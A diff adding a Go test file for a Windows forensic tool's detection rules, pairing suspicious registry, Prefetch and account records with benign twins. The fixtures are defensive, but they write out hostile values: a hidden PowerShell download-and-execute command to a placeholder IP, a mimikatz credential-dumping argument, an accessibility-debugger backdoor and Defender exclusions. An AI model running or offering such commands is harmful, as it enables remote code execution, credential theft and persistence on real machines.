@@ -1,0 +1,302 @@
+package findings_test
+
+import (
+	"fmt"
+	"reflect"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/artifactdump/artifactdump/artifacts"
+	"github.com/artifactdump/artifactdump/artifacts/evidence"
+	"github.com/artifactdump/artifactdump/artifacts/findings"
+)
+
+// rec wraps data as a run would.
+func rec(name string, d artifacts.Decoded) artifacts.Record {
+	for _, a := range artifacts.All() {
+		if a.Name == name {
+			return artifacts.Record{ID: name, Artifact: a, Data: d, From: artifacts.Locator{Path: `C:\x`, State: artifacts.Live}}
+		}
+	}
+	panic("no artifact is called " + name)
+}
+
+func of(user string, r artifacts.Record) artifacts.Record {
+	r.User = evidence.User{Name: user, Profile: `C:\Users\` + user}
+	return r
+}
+
+var day = time.Date(2026, 3, 6, 18, 0, 0, 0, time.UTC)
+
+func at(minutes ...int) []time.Time {
+	var out []time.Time
+	for _, m := range minutes {
+		out = append(out, day.Add(time.Duration(m)*time.Minute))
+	}
+	return out
+}
+
+// pf is a Prefetch record of a program on the volume of Windows.
+func pf(path string, runs []time.Time, files ...string) artifacts.Record {
+	files = append([]string{`\VOLUME{1}\WINDOWS\SYSTEM32\NTDLL.DLL`}, files...)
+	name := strings.ToUpper(path[strings.LastIndexByte(path, '\\')+1:])
+	return rec("prefetch", artifacts.Prefetch{
+		Executable: name, ImagePath: `\VOLUME{1}` + strings.ToUpper(path), HashStatus: "verified", RunCount: uint32(len(runs)), LastRuns: runs, Files: files,
+	})
+}
+
+func auto(mechanism, image, args string) artifacts.Autostart {
+	return artifacts.Autostart{Mechanism: mechanism, Scope: "machine", Image: image, Arguments: args, Command: strings.TrimSpace(image + " " + args), Written: day}
+}
+
+// fill sets what a record says of a program that starts by itself. The
+// embedded struct has no exported name; its fields do.
+func fill[T any](r T, a artifacts.Autostart) T {
+	dst, src := reflect.ValueOf(&r).Elem(), reflect.ValueOf(a)
+	for i := range src.NumField() {
+		dst.FieldByName(src.Type().Field(i).Name).Set(src.Field(i))
+	}
+	return r
+}
+
+func runKey(image, args string) artifacts.Record {
+	return rec("runkeys", fill(artifacts.RunKey{Name: "Value", List: "Run"}, auto("Run", image, args)))
+}
+
+func service(name, image string, more func(*artifacts.Service)) artifacts.Record {
+	s := fill(artifacts.Service{Name: name, ImagePath: image, ServiceType: 0x10, StartType: 2}, auto("Service", image, ""))
+	if more != nil {
+		more(&s)
+	}
+	return rec("services", s)
+}
+
+func task(path, image, args string, more func(*artifacts.Task)) artifacts.Record {
+	t := fill(artifacts.Task{TaskPath: path}, auto("Scheduled task", image, args))
+	if more != nil {
+		more(&t)
+	}
+	return rec("tasks", t)
+}
+
+func hook(mechanism, name, value, image string) artifacts.Hook {
+	return fill(artifacts.Hook{Name: name, Value: value}, auto(mechanism, image, ""))
+}
+
+func setting(artifact, name, value string, weak bool) artifacts.Record {
+	return rec(artifact, artifacts.Setting{Setting: name, Value: value, Weak: weak, Meaning: "meaning"})
+}
+
+func amcache(path, original string) artifacts.Record {
+	return rec("amcachefiles", artifacts.AmcacheFile{Path: path, OriginalName: original})
+}
+
+func shim(path, executed string) artifacts.Record {
+	return rec("shimcache", artifacts.Shimcache{Path: path, Executed: executed, Modified: day})
+}
+
+func user(rid uint32, name string, more func(*artifacts.Account)) artifacts.Record {
+	a := artifacts.Account{RID: rid, Name: name, SID: fmt.Sprintf("S-1-5-21-1-2-3-%d", rid)}
+	if more != nil {
+		more(&a)
+	}
+	return rec("users", a)
+}
+
+func group(rid uint32, members ...string) artifacts.Record {
+	return rec("groups", artifacts.Group{RID: rid, Name: "Administrators", Members: members})
+}
+
+type records []artifacts.Record
+
+// many adds ordinary Prefetch files.
+func many(n int, more ...artifacts.Record) records {
+	for i := range n {
+		more = append(more, pf(fmt.Sprintf(`\Program Files\P\p%d.exe`, i), at(i)))
+	}
+	return more
+}
+
+// cases are, for every rule, records that fire it and a twin that looks alike
+// and does not. A level of 0 means any.
+var cases = []struct {
+	rule   string
+	level  findings.Level
+	fires  records
+	benign records
+}{
+	{"M-01", findings.Critical, records{pf(`\Users\Public\svchost.exe`, at(0))}, records{pf(`\Windows\System32\svchost.exe`, at(0)), shim(`C:\Windows\SysWOW64\svchost.exe`, "yes"), pf(`\Windows\WinSxS\amd64_x\svchost.exe`, at(0))}},
+	{"M-01", findings.High, records{shim(`C:\dllhost.exe`, "no")}, records{shim(`C:\Program Files\Vendor\svchost2.exe`, "no")}},
+	{"M-02", findings.High, records{pf(`\PerfLogs\tool.exe`, at(0)), pf(`\Program Files\Tool\tool.exe`, at(1))}, records{pf(`\Program Files\Tool\1.0\tool.exe`, at(0)), pf(`\Program Files\Tool\2.0\tool.exe`, at(1))}},
+	{"M-03", findings.High, records{pf(`\Windows\System32\scvhost.exe`, at(0))}, records{pf(`\Windows\System32\taskhostw.exe`, at(0)), pf(`\Program Files\Notepad++\notepad++.exe`, at(0))}},
+	{"M-03", findings.High, records{shim(`C:\Windows\System32\svсhost.exe`, "yes")}, records{shim(`C:\Windows\System32\cscript.exe`, "yes")}},
+	{"M-04", findings.High, records{pf(`\Users\u\Desktop\report.pdf.exe`, at(0))}, records{pf(`\Users\u\Desktop\setup.1.2.exe`, at(0))}},
+	{"M-05", findings.High, records{amcache(`C:\Program Files\x\notes.exe`, "mimikatz.exe")}, records{amcache(`C:\Program Files\x\setup.exe`, "Product.exe")}},
+	{"M-06", findings.High, records{task(`\Adobe Flash Updater`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `-f x.ps1`, nil)}, records{task(`\GoogleUpdateTaskMachine`, `C:\Program Files (x86)\Google\Update\GoogleUpdate.exe`, `/c`, nil)}},
+	{"M-07", 0, records{pf(`\Users\Public\app\signed.exe`, at(0), `\VOLUME{1}\USERS\PUBLIC\APP\VERSION.DLL`)}, records{pf(`\Program Files\app\signed.exe`, at(0), `\VOLUME{1}\PROGRAM FILES\APP\VERSION.DLL`)}},
+	{"M-08", 0, records{pf(`\Program Files\app\a.exe`, at(0), `\VOLUME{1}\PERFLOGS\DBGHELP.DLL`)}, records{pf(`\Program Files\app\a.exe`, at(0), `\VOLUME{1}\WINDOWS\SYSTEM32\DBGHELP.DLL`)}},
+	{"P-01", findings.High, records{runKey(`C:\Users\Public\a.exe`, "")}, records{runKey(`C:\Program Files\A\a.exe`, ""), runKey(`C:\Users\u\AppData\Local\Microsoft\OneDrive\OneDrive.exe`, "/background")}},
+	{"P-02", findings.Critical, records{runKey(`C:\Windows\System32\mshta.exe`, `javascript:close()`)}, records{runKey(`C:\Windows\System32\rundll32.exe`, `"C:\Program Files\Driver\d.dll",Startup`)}},
+	{"P-03", findings.Critical, records{rec("winlogon", fill(artifacts.Winlogon{Name: "Userinit", Item: 2, Value: "a,b"}, auto("Winlogon Userinit", `C:\ProgramData\b.exe`, "")))}, records{rec("winlogon", fill(artifacts.Winlogon{Name: "Userinit", Item: 1, Value: `C:\Windows\system32\userinit.exe,`}, auto("Winlogon Userinit", `C:\Windows\system32\userinit.exe`, "")))}},
+	{"P-04", findings.Critical, records{rec("ifeo", artifacts.IFEO{Hook: hook("IFEO Debugger", "Debugger", "cmd.exe", `C:\Windows\System32\cmd.exe`), Target: "sethc.exe", Accessibility: true})}, records{rec("ifeo", artifacts.IFEO{Hook: hook("IFEO Debugger", "Debugger", "", `C:\Tools\PROCEXP.EXE`), Target: "taskmgr.exe"})}},
+	{"P-05", findings.High, records{of("u", rec("shellfolders", artifacts.ShellFolder{Name: "Startup", Resolved: `C:\Users\Public\s`, Redirected: true}))}, records{of("u", rec("shellfolders", artifacts.ShellFolder{Name: "Startup", Resolved: `C:\Users\v\Startup`, Redirected: true, Foreign: true}))}},
+	{"P-06", findings.High, records{of("u", rec("startupfolder", fill(artifacts.StartupFile{Path: `C:\Users\u\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\a.vbs`, Kind: "file"}, auto("Startup folder", `C:\x.vbs`, ""))))},
+		records{of("u", rec("startupfolder", fill(artifacts.StartupFile{Path: `C:\Users\u\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\a.lnk`, Kind: "shortcut"}, auto("Startup folder", `C:\Program Files\A\a.exe`, ""))))}},
+	{"P-07", findings.High, records{rec("windowsload", fill(artifacts.WindowsLoad{Name: "Load"}, auto("Windows Load", `C:\Program Files\a.exe`, "")))}, records{rec("windowsload", artifacts.WindowsLoad{Name: "Load"})}},
+	{"P-08", findings.Medium, records{rec("runkeys", fill(artifacts.RunKey{Name: "V"}, artifacts.Autostart{Mechanism: "Run", Image: `C:\Program Files\A\a.exe`, Command: "a", FilePresent: "no"}))}, records{rec("runkeys", fill(artifacts.RunKey{Name: "V"}, artifacts.Autostart{Mechanism: "Run", Image: `C:\Program Files\A\a.exe`, Command: "a", FilePresent: "yes"}))}},
+	{"P-09", 0, records{runKey(`C:\Program Files\A\a.exe`, ""), pf(`\Program Files\A\a.exe`, at(5))}, records{runKey(`C:\Program Files\A\a.exe`, ""), pf(`\Program Files\A\a.exe`, at(500))}},
+	{"P-10", 0, records{runKey(`C:\Program Files\A\a.exe`, ""), pf(`\Windows\System32\cmd.exe`, at(5))}, records{runKey(`C:\Program Files\A\a.exe`, ""), pf(`\Program Files\A\a.exe`, at(5))}},
+	{"P-11", findings.Critical, records{service("evil", `C:\Windows\System32\cmd.exe`, func(s *artifacts.Service) { s.ImagePath = `%COMSPEC% /c start x` })}, records{service("Spooler", `C:\Windows\System32\spoolsv.exe`, nil)}},
+	{"P-11", findings.Critical, records{service("evil", `C:\Users\Public\a.exe`, nil)}, records{service("WinDefend", `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18\MsMpEng.exe`, nil)}},
+	{"P-12", findings.Critical, records{task(`\x`, `C:\TMP\mim.exe`, `sekurlsa::logonpasswords`, nil)}, records{task(`\Microsoft\Windows\Defrag\ScheduledDefrag`, `C:\Windows\System32\defrag.exe`, `-c -h`, nil)}},
+	{"P-12", findings.Medium, records{task(`\x`, `C:\Program Files\A\a.exe`, "", func(t *artifacts.Task) { t.Triggers = []artifacts.TaskTrigger{{Interval: "PT1M"}} })}, records{task(`\x`, `C:\Program Files\A\a.exe`, "", func(t *artifacts.Task) { t.Triggers = []artifacts.TaskTrigger{{Interval: "PT1H"}} })}},
+	{"P-12b", findings.High, records{task(`\x`, `C:\Program Files\A\a.exe`, "", func(t *artifacts.Task) { t.XMLSHA256, t.Actions = strings.Repeat("a", 64), []string{"a"} }), rec("taskcache", artifacts.TaskCache{View: "task", TaskPath: `\x`, Hash: strings.Repeat("b", 64), Actions: []string{"b"}})},
+		records{task(`\x`, `C:\Program Files\A\a.exe`, "", func(t *artifacts.Task) { t.XMLSHA256 = strings.Repeat("a", 64) }), rec("taskcache", artifacts.TaskCache{View: "task", TaskPath: `\x`, Hash: strings.Repeat("a", 64)})}},
+	{"P-13", findings.High, records{of("u", rec("comhijack", artifacts.COMHijack{Hook: hook("COM server", "", "", `C:\Users\Public\a.dll`), CLSID: "{1}", Kind: "InprocServer32", Shadows: true}))}, records{of("u", rec("comhijack", artifacts.COMHijack{Hook: hook("COM server", "", "", `C:\Users\u\AppData\Local\Microsoft\OneDrive\x.dll`), CLSID: "{1}", Kind: "InprocServer32", Shadows: true}))}},
+	{"P-14", findings.High, records{of("u", rec("screensaver", fill(artifacts.Screensaver{}, auto("Screen saver", `C:\Users\Public\a.scr`, ""))))}, records{of("u", rec("screensaver", fill(artifacts.Screensaver{}, auto("Screen saver", `C:\Windows\System32\Mystify.scr`, ""))))}},
+	{"P-15", findings.High, records{rec("shims", artifacts.Shim{Database: "{1}", Target: "a.exe"})}, records{rec("appcompatflags", artifacts.AppCompatLayer{Path: `C:\Program Files\a.exe`})}},
+	{"P-16", findings.High, records{rec("wmi", fill(artifacts.WMI{Kind: "consumer", Class: "CommandLineEventConsumer", Name: "x"}, auto("WMI consumer", `C:\a.exe`, "")))}, records{rec("wmi", artifacts.WMI{Kind: "consumer", Class: "NTEventLogEventConsumer", Name: "SCM Event Log Consumer", Default: true})}},
+	{"P-17", 0, records{rec("startupapproved", artifacts.StartupApproved{Name: "x", List: "Run", Disabled: true})}, records{rec("startupapproved", artifacts.StartupApproved{Name: "x", List: "Run"})}},
+	{"P-18", findings.High, records{rec("runkeys", fill(artifacts.RunKey{Name: "x", List: "Run"}, artifacts.Autostart{Mechanism: "Run", Scope: "new users", Command: "a", Image: `C:\Program Files\a.exe`}))}, records{rec("runkeys", fill(artifacts.RunKey{Name: "x", List: "Run"}, artifacts.Autostart{Mechanism: "Run", Scope: "new users", Command: `C:\Windows\SysWOW64\OneDriveSetup.exe /thfirstsetup`, Image: `C:\Windows\SysWOW64\OneDriveSetup.exe`}))}},
+	{"P-19", findings.High, records{rec("profiler", artifacts.Profiler{Hook: hook(".NET profiler", "COR_PROFILER_PATH", `C:\a.dll`, `C:\a.dll`), Variable: "COR_PROFILER_PATH"})}, records{rec("environment", artifacts.Environment{Hook: artifacts.Hook{Name: "Path", Default: true}, Folder: `C:\Windows\System32`})}},
+	{"X-01", findings.High, records{pf(`\Users\Public\gone.exe`, at(0))}, records{pf(`\Users\Public\here.exe`, at(0))}},
+	{"X-02", findings.High, records{pf(`\PerfLogs\a.exe`, at(0))}, records{pf(`\Program Files\A\a.exe`, at(0)), pf(`\Windows\System32\a.exe`, at(0))}},
+	{"X-03", findings.High, records{pf(`\Users\u\Downloads\mimikatz.exe`, at(0))}, records{pf(`\Program Files\7-Zip\7z.exe`, at(0))}},
+	{"X-04", findings.High, records{pf(`\Windows\PSEXESVC.EXE`, at(0, 5))}, records{pf(`\Windows\explorer.exe`, at(0))}},
+	{"X-05", findings.Medium, records{of("u", rec("sysinternals", artifacts.Sysinternals{Tool: "PsExec", Accepted: true, Written: day}))}, records{of("u", rec("muicache", artifacts.MuiCache{Path: `C:\Program Files\a.exe`}))}},
+	{"X-06", findings.Medium, records{pf(`\Windows\System32\whoami.exe`, at(0)), pf(`\Windows\System32\ipconfig.exe`, at(3)), pf(`\Windows\System32\net.exe`, at(5)), pf(`\Windows\System32\nltest.exe`, at(20))},
+		records{pf(`\Windows\System32\whoami.exe`, at(0)), pf(`\Windows\System32\net.exe`, at(3)), pf(`\Windows\System32\net1.exe`, at(3)), pf(`\Windows\System32\ipconfig.exe`, at(100)), pf(`\Windows\System32\nltest.exe`, at(200))}},
+	{"X-07", 0, records{pf(`\Windows\System32\mshta.exe`, at(0))}, records{pf(`\Windows\System32\calc.exe`, at(0))}},
+	{"X-08", findings.High, records{pf(`\Windows\System32\rundll32.exe`, at(0), `\VOLUME{1}\USERS\PUBLIC\A.DLL`)}, records{pf(`\Windows\System32\rundll32.exe`, at(0), `\VOLUME{1}\PROGRAM FILES\DRIVER\A.DLL`)}},
+	{"X-09", findings.Critical, records{of("u", rec("runmru", artifacts.RunMRU{Command: `powershell -w hidden -c "iwr http://192.0.2.1/a|iex"`}))}, records{of("u", rec("runmru", artifacts.RunMRU{Command: "notepad"})), of("u", rec("runmru", artifacts.RunMRU{Command: `\\fileserver\public`}))}},
+	{"X-10", findings.High, records{of("u", rec("trustrecords", artifacts.TrustRecord{Kind: "document", Path: `%USERPROFILE%/Downloads/a.docm`, Macros: true}))}, records{of("u", rec("trustrecords", artifacts.TrustRecord{Kind: "document", Path: `%USERPROFILE%/Downloads/a.docm`, Editing: true}))}},
+	{"X-11", 0, records{pf(`\Users\Public\svchost.exe`, at(0)), pf(`\Program Files\A\a.exe`, at(5))}, records{pf(`\Users\Public\svchost.exe`, at(0)), pf(`\Program Files\A\a.exe`, at(50))}},
+	{"X-12", 0, records{rec("consentstore", artifacts.Consent{Capability: "microphone", App: `C:\Users\Public\a.exe`, Start: day})}, records{rec("consentstore", artifacts.Consent{Capability: "microphone", App: `C:\Program Files\Zoom\zoom.exe`, Start: day})}},
+	{"X-13", 0, records{of("u", rec("userassist", artifacts.UserAssist{Name: "a", Path: `C:\Users\Public\a.exe`, Runs: 14, Seeded: true, Kind: "program"}))}, records{of("u", rec("userassist", artifacts.UserAssist{Name: "a", Path: `C:\Program Files\a.exe`, Runs: 14, Kind: "program"}))}},
+	{"D-02", findings.Medium, records{shim(`C:\Windows\System32\older.exe`, "no")}, records{shim(`C:\Windows\System32\newer.exe`, "no")}},
+	{"D-03", 0, records{rec("amcachefiles", artifacts.AmcacheFile{Path: `C:\Users\Public\a.exe`, Linked: "03/05/2026 00:00:00"}), pf(`\Users\Public\a.exe`, at(0, -4000))}, records{rec("amcachefiles", artifacts.AmcacheFile{Path: `C:\Users\Public\a.exe`, Linked: "01/05/2020 00:00:00"}), pf(`\Users\Public\a.exe`, at(0, -4000))}},
+	{"D-04", 0, records{rec("prefetchlayout", artifacts.LayoutFile{Path: `C:\Users\u\AppData\Local\Temp\t.exe`, Prefetch: "gone"})}, many(12, rec("prefetchlayout", artifacts.LayoutFile{Path: `C:\Users\u\AppData\Local\Temp\t.exe`, Prefetch: "there"}))},
+	{"D-05", 0, records{of("u", rec("runmru", artifacts.RunMRU{Empty: true, Written: day}))}, records{of("u", rec("runmru", artifacts.RunMRU{Command: "cmd"}))}},
+	{"D-07", findings.Medium, records{rec("recyclebin", artifacts.Recycled{Path: `C:\Windows\System32\a.exe`, Deleted: day})}, records{rec("recyclebin", artifacts.Recycled{Path: `C:\Users\u\Documents\letter.docx`, Deleted: day})}},
+	{"D-08", 0, records{rec("prefetch", artifacts.Prefetch{Executable: "A.EXE", ImagePath: `\VOLUME{1}\WINDOWS\A.EXE`, ClockSetBack: true})}, records{pf(`\Windows\System32\a.exe`, at(0))}},
+	{"F-01", findings.High, records{rec("defender", artifacts.Defender{Kind: "setting", Name: "DisableRealtimeMonitoring", Value: "1", Weak: true})}, records{rec("defender", artifacts.Defender{Kind: "setting", Name: "DisableAntiSpyware", Value: "0"})}},
+	{"F-02", findings.High, records{rec("defender", artifacts.Defender{Kind: "exclusion", List: "Extensions", Name: ".exe", Weak: true})}, records{rec("defender", artifacts.Defender{Kind: "setting", Name: "x"})}},
+	{"F-02", findings.Critical, records{rec("defender", artifacts.Defender{Kind: "exclusion", List: "Paths", Name: `C:\`, Weak: true})}, records{rec("hosts", artifacts.Host{Default: true})}},
+	{"F-03", findings.High, records{rec("firewall", artifacts.Firewall{Kind: "rule", Active: true, Action: "Allow", Direction: "In", App: `C:\Users\Public\a.exe`})}, records{rec("firewall", artifacts.Firewall{Kind: "rule", Active: true, Action: "Allow", Direction: "In", App: `%SystemRoot%\System32\svchost.exe`})}},
+	{"F-04", findings.High, records{rec("portproxy", artifacts.PortProxy{ListenAddress: "0.0.0.0", ListenPort: "80", Address: "192.0.2.9", Port: "3389"})}, records{rec("proxies", artifacts.Proxy{})}},
+	{"F-05", findings.High, records{rec("hosts", artifacts.Host{Address: "127.0.0.1", Loopback: true, Names: []string{"definitionupdates.microsoft.com"}})}, records{rec("hosts", artifacts.Host{Address: "127.0.0.1", Loopback: true, Names: []string{"localhost"}, Default: true}), rec("hosts", artifacts.Host{Address: "0.0.0.0", Loopback: true, Names: []string{"ads.example"}})}},
+	{"F-06", findings.High, records{setting("eventlogging", `EventLog\Start`, "4", true)}, records{setting("eventlogging", `EventLog\Start`, "2", false)}},
+	{"F-07", findings.Low, records{setting("protection", `Microsoft.PowerShell\ExecutionPolicy`, "Bypass", true)}, records{setting("protection", `Microsoft.PowerShell\ExecutionPolicy`, "RemoteSigned", false)}},
+	{"F-08", findings.High, records{setting("remoteaccess", `System\LocalAccountTokenFilterPolicy`, "1", true)}, records{setting("protection", `System\EnableLUA`, "1", false)}},
+	{"F-09", findings.High, records{setting("remoteaccess", `RDP-Tcp\PortNumber`, "4444", true)}, records{setting("remoteaccess", `Terminal Server\fDenyTSConnections`, "1", false)}},
+	{"F-10", findings.High, records{of("u", rec("proxies", artifacts.Proxy{Server: "198.51.100.1:8080", Enabled: true}))}, records{of("u", rec("proxies", artifacts.Proxy{Server: "198.51.100.1:8080"}))}},
+	{"F-11", findings.High, records{pf(`\Windows\System32\vssadmin.exe`, at(0)), pf(`\Windows\System32\wevtutil.exe`, at(2))}, records{pf(`\Windows\System32\vssadmin.exe`, at(0)), pf(`\Windows\System32\wevtutil.exe`, at(200))}},
+	{"A-01", findings.Critical, records{user(501, "Guest", func(a *artifacts.Account) { a.Flags = []string{"disabled"} }), group(544, "S-1-5-21-1-2-3-501")}, records{user(501, "Guest", func(a *artifacts.Account) { a.Flags = []string{"disabled"} }), group(544, "S-1-5-21-1-2-3-500")}},
+	{"A-02", findings.High, records{user(1005, "help$", nil)}, records{user(1001, "mira", nil)}},
+	{"A-03", findings.Critical, records{user(1005, "x", func(a *artifacts.Account) { a.StoredRID = 500 })}, records{user(1005, "x", nil)}},
+	{"A-04", findings.Low, records{user(1005, "x", func(a *artifacts.Account) { a.BadPassword = day }), pf(`\Users\Public\a.exe`, at(5))}, records{user(1005, "x", func(a *artifacts.Account) { a.BadPassword = day }), pf(`\Program Files\a.exe`, at(5))}},
+	{"A-05", findings.Medium, records{of("u", rec("mappeddrives", artifacts.MappedDrive{Path: `\\srv\c$`}))}, records{of("u", rec("mappeddrives", artifacts.MappedDrive{Path: `\\srv\public`}))}},
+	{"A-06", findings.Low, records{pf(`\Windows\System32\cmd.exe`, at(0)), rec("prefetch", artifacts.Prefetch{Executable: "A.EXE", ImagePath: `\VOLUME{2}\A.EXE`, HashStatus: "verified", RunCount: 1, LastRuns: at(0)})}, records{pf(`\Program Files\a.exe`, at(0))}},
+	{"A-07", findings.Low, records{user(1001, "x", nil), rec("profiles", artifacts.Profile{SID: "S-1-5-21-1-2-3-1009", Path: `C:\Users\gone`})}, records{user(1001, "x", nil), rec("profiles", artifacts.Profile{SID: "S-1-5-21-1-2-3-1001", Path: `C:\Users\x`}), rec("profiles", artifacts.Profile{SID: "S-1-5-21-9-9-9-1001", Path: `C:\Users\domain`})}},
+}
+
+// facts are those of a whole volume with a few files.
+func facts() findings.Facts {
+	return findings.Facts{
+		Machine: &evidence.Machine{Name: "TEST", SystemRoot: `C:\Windows`, Build: "19045"}, Prefetcher: 3, Whole: true, FileTimes: true,
+		Find: func(p string) (bool, bool) { return !strings.Contains(strings.ToLower(p), "gone"), true },
+		Modified: func(p string) (time.Time, bool) {
+			if strings.Contains(p, "older") {
+				return day.Add(-time.Hour), true
+			}
+			return day.Add(time.Hour), true
+		},
+	}
+}
+
+func judge(recs records, opts *findings.Options) *findings.Report {
+	e := findings.NewEvaluator(facts(), opts)
+	for i := range recs {
+		recs[i].ID = fmt.Sprintf("%s-%d", recs[i].Artifact.Name, i)
+		e.Add(&artifacts.Result{Artifact: recs[i].Artifact, From: recs[i].From, Records: recs[i : i+1]})
+	}
+	return e.Report()
+}
+
+// level returns the highest level that the rule gave in the report, 0 when it
+// had nothing to say.
+func level(r *findings.Report, rule string) (l findings.Level, says []string) {
+	for _, f := range r.Findings {
+		for _, re := range f.Reasons {
+			if re.RuleID == rule {
+				l = max(l, re.Level)
+				says = append(says, f.Subject+": "+re.Says)
+			}
+		}
+	}
+	return l, says
+}
+
+func TestRules(t *testing.T) {
+	for _, c := range cases {
+		l, says := level(judge(c.fires, nil), c.rule)
+		if l == 0 {
+			t.Errorf("%s has nothing to say about %+v", c.rule, c.fires[0].Data)
+		} else if c.level != 0 && l != c.level {
+			t.Errorf("%s gives %s, want %s: %s", c.rule, l, c.level, says)
+		}
+		// A mention as context is no alarm, unless the rule has nothing stronger.
+		if benign, says := level(judge(c.benign, nil), c.rule); benign > findings.Informational || benign > 0 && benign >= l {
+			l := benign
+			t.Errorf("%s gives %s to its benign twin: %s", c.rule, l, says)
+		}
+	}
+}
+
+// TestEveryRuleHasACase: a rule that can fire has a case that fires it.
+func TestEveryRuleHasACase(t *testing.T) {
+	for _, r := range findings.Rules() {
+		if r.Unread != "" || r.OnRequest {
+			continue
+		}
+		if !slices.ContainsFunc(cases, func(c struct {
+			rule   string
+			level  findings.Level
+			fires  records
+			benign records
+		}) bool {
+			return c.rule == r.ID
+		}) {
+			t.Errorf("%s has no case", r.ID)
+		}
+	}
+}
+
+// TestAgreement: what starts by itself and did run is raised one step; a list
+// of programs that also knows it adds nothing.
+func TestAgreement(t *testing.T) {
+	r := judge(records{runKey(`C:\Users\Public\a.exe`, ""), pf(`\Users\Public\a.exe`, at(0))}, nil)
+	if f := find(r, `a.exe`); f == nil || f.Level != findings.Critical || f.Raised == "" {
+		t.Errorf("autorun and start: %+v", f)
+	}
+	r = judge(records{pf(`\Users\Public\a.exe`, at(0)), shim(`C:\Users\Public\a.exe`, "no"), amcache(`C:\Users\Public\a.exe`, "")}, nil)
+	f := find(r, `a.exe`)
+	if f == nil || f.Level != findings.High || f.Raised != "" {
+		t.Fatalf("start and inventories: %+v", f)
+	}
+	if f.Count != 3 || len(f.Evidence) != 3 {
+		t.Errorf("%d records, want those of all three sources", f.Count)
+	}
+}
+
+// TestSeededStaysOut: what came with the profile is no start, for no rule.
+func TestSeededStaysOut(t *testing.T) {
+	r := judge(records{of("u", rec("userassist", artifacts.UserAssist{Name: "m", Path: `C:\Users\Public\svchost.exe`, Runs: 3, Seeded: true, Kind: "program", LastRun: day}))}, nil)
+	for _, f := range r.Findings {
+		if f.RuleID != "X-13" {
+			t.Errorf("%s speaks of %s", f.RuleID, f.Subject)
+		}
+	}
+}
